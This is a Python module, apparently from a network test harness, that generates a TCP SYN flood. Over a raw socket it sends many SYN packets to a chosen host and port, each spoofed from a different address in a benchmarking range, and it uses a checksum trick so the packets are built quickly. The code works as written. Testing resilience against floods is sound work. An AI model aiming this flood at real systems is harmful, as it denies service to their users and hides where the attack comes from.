"""
A flood of SYNs from everywhere.
"""

import socket
import struct

from controller.core.packets import TCP, checksum, ip_header
from harness.machines import Here

SOURCES = "198.18.128.0/17"
"""Where they say that they come from."""

_HIGH = 198 << 8 | 18
_LOW = 0x8000
_SYN = 2


def send_syns(machine: Here, to: tuple[str, int], count: int) -> None:
    """
    Send *count* SYNs by IPv4 from *machine*, no two of them with the same addresses.
    """
    address = socket.inet_aton(to[0])
    # the kernel adds the checksum of this one
    head = ip_header(bytes(4), address, TCP, 20)[:12]
    # the sequence number makes up for what differs, so one checksum is right for all
    same = struct.pack("!HH4sHHI", _HIGH, 0, address, 0, to[1], 0)
    tail = struct.pack("!IBBHHH", 0, 5 << 4, _SYN, 65535, 0, 0)
    total = checksum(struct.pack("!II", 20, TCP) + same + tail)
    tail = struct.pack("!IBBHHH", 0, 5 << 4, _SYN, 65535, total, 0)
    with machine.network():
        sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    with sender:
        for i in range(count):
            low, port = _LOW + i % _LOW, 1024 + i // _LOW
            number = -(low + port) % 65535
            some = struct.pack("!HH4sHHI", _HIGH, low, address, port, to[1], number)
            sender.sendto(head + some + tail, to)
